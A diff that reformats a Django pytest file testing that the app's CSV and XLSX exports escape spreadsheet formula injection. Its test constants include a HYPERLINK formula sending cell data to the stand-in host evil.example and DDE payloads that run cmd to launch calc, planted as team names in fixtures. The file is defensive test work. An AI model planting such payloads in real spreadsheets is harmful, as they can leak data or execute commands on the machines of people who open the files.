@@ -35,8 +35,14 @@ pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"Open")'
 DDE = "+cmd|' /C calc'!A0"
-HOSTILE = [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    HYPERLINK,
+    DDE,
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 EMAILS = ["=1+1@example.com", "+cmd@example.com", "-sum@example.com"]
 
 
@@ -50,8 +56,24 @@ def test_text_that_starts_a_formula_gets_the_text_mark_and_reads_back(text):
     assert spreadsheet_text_read(safe) == text
 
 
-@pytest.mark.parametrize("value", [3, -1, 0, -0.5, 2.25, None, True, dt.date(2026, 6, 1),
-                                   "Prompt engineering", "a=b", "", "'quoted", "50 %"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        3,
+        -1,
+        0,
+        -0.5,
+        2.25,
+        None,
+        True,
+        dt.date(2026, 6, 1),
+        "Prompt engineering",
+        "a=b",
+        "",
+        "'quoted",
+        "50 %",
+    ],
+)
 def test_numbers_dates_and_plain_text_are_written_as_they_are(value):
     assert spreadsheet_value(value) == value
     if isinstance(value, str):
@@ -151,8 +173,10 @@ def test_team_map_csv(client, hostile_team):
 def test_team_map_xlsx(client, hostile_team):
     sheets = assert_xlsx_safe(export(client, hostile_team, format="xlsx"))
     values = {c.value for rows in sheets.values() for row in rows for c in row}
-    assert marked([f"{HOSTILE[0]} Smith", *HOSTILE[2:], *EMAILS, *HOSTILE[:2], "-calc"],
-                  xlsx=True) <= values
+    assert (
+        marked([f"{HOSTILE[0]} Smith", *HOSTILE[2:], *EMAILS, *HOSTILE[:2], "-calc"], xlsx=True)
+        <= values
+    )
     for row in sheets["Skill map"][1:4]:
         for cell in row[3:]:
             assert cell.value is None or isinstance(cell.value, int), cell.value
@@ -175,8 +199,9 @@ def test_ratings_export_is_safe_and_imports_as_it_is(client, hostile_team, fmt):
     file = io.BytesIO(content)
     file.name = f"ratings.{fmt}"
     before = SkillRating.objects.count()
-    body = client.post(reverse("assessments:team-import", args=[hostile_team.team.pk]),
-                       {"file": file}).content.decode()
+    body = client.post(
+        reverse("assessments:team-import", args=[hostile_team.team.pk]), {"file": file}
+    ).content.decode()
     assert 'data-testid="import-ready"' in body, body
     assert "0 ratings to record" in body
     assert SkillRating.objects.count() == before
@@ -190,12 +215,16 @@ def hostile_org(db, settings):
     settings.MIN_AGGREGATE_PEOPLE = 5
     with time_machine.travel(NOW, tick=False):  # the organization built on its own day
         org = build_leadership_org()
-        for team, name in ((org.engineering, HYPERLINK), (org.platform, DDE),
-                           (org.sales, HOSTILE[2])):
+        for team, name in (
+            (org.engineering, HYPERLINK),
+            (org.platform, DDE),
+            (org.sales, HOSTILE[2]),
+        ):
             team.name = name
             team.save()
-        for audience, name in zip(Audience.objects.filter(name__in=["Tech", "Users"]),
-                                  HOSTILE[3:5], strict=True):
+        for audience, name in zip(
+            Audience.objects.filter(name__in=["Tech", "Users"]), HOSTILE[3:5], strict=True
+        ):
             audience.name = name
             audience.save()
         org.prompting.name = HOSTILE[5]
@@ -210,13 +239,28 @@ def hostile_org(db, settings):
         start, done = NOW - dt.timedelta(days=30), NOW - dt.timedelta(days=10)
         for _ in range(5):
             person = PersonFactory()
-            SkillRating.objects.create(person=person, skill=skill, level=1, source="self",
-                                       created_at=start - dt.timedelta(days=1))
-            LearningPlanItem.objects.create(person=person, resource=course, skill=skill,
-                                            status="completed", started_at=start,
-                                            completed_at=done)
-            SkillRating.objects.create(person=person, skill=skill, level=2, source="self",
-                                       created_at=done + dt.timedelta(days=1))
+            SkillRating.objects.create(
+                person=person,
+                skill=skill,
+                level=1,
+                source="self",
+                created_at=start - dt.timedelta(days=1),
+            )
+            LearningPlanItem.objects.create(
+                person=person,
+                resource=course,
+                skill=skill,
+                status="completed",
+                started_at=start,
+                completed_at=done,
+            )
+            SkillRating.objects.create(
+                person=person,
+                skill=skill,
+                level=2,
+                source="self",
+                created_at=done + dt.timedelta(days=1),
+            )
         yield org
 
 
@@ -249,5 +293,4 @@ def test_manager_dashboard_workbook(client, hostile_org):
     assert response.status_code == 200
     sheets = assert_xlsx_safe(response.content)
     values = {c.value for rows in sheets.values() for row in rows for c in row}
-    assert any(isinstance(v, str) and v.startswith(("'" + HYPERLINK, "'" + DDE))
-               for v in values)
+    assert any(isinstance(v, str) and v.startswith(("'" + HYPERLINK, "'" + DDE)) for v in values)
